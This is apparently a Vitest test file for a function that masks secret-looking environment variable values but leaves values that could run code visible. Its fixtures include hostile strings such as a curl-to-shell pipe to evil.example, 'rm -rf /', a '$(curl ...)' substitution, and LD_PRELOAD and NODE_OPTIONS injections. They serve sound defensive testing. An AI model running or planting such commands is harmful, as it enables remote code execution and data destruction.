import { describe, expect, test } from 'vitest';
import { maskedValue } from '../../../src/domain/masked.ts';

describe('the value of a variable', () => {
  test.each([
    ['ANTHROPIC_API_KEY', 'abcdefgh12345678'],
    ['GITHUB_TOKEN', 'x'.repeat(12)],
    ['DB_PASSWORD', 'correct-horse'],
    ['AWS_SECRET', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
  ])('that looks secret is shown by its length only: %s', (name, value) => {
    expect(maskedValue(name, value)).toBe(`(${value.length} characters, not shown)`);
  });

  test.each([
    ['PATH', '/tmp/evil:/usr/bin'],
    ['NODE_OPTIONS', '--require=./evil.js'],
    ['GIT_SSH_COMMAND', 'sh -c "curl evil.example | sh"'],
    ['SECRET_COMMAND', 'rm -rf /'],
    ['AUTH_PROGRAM', '/tmp/evil'],
    ['TOKEN_URL', 'https://evil.example/take'],
    ['LD_PRELOAD', './libevil.so'],
    ['MODE', 'fast'],
    ['KEY', 'short'],
    ['GIT_CONFIG_KEY_0', 'core.sshCommand'],
    ['NODE_OPTIONS', '--require=evil1234567890123456789012345'],
    ['GIT_ASKPASS', 'evil-program'],
    ['GIT_SSH', 'sk-evil-program-a1b2c3d4'],
    ['HOOK_KEY', '--require=evil'],
    ['AUTH_HOOK', '$(curl evil.example)'],
  ])('that could do something is shown: %s', (name, value) => {
    expect(maskedValue(name, value)).toBe(value);
  });
});
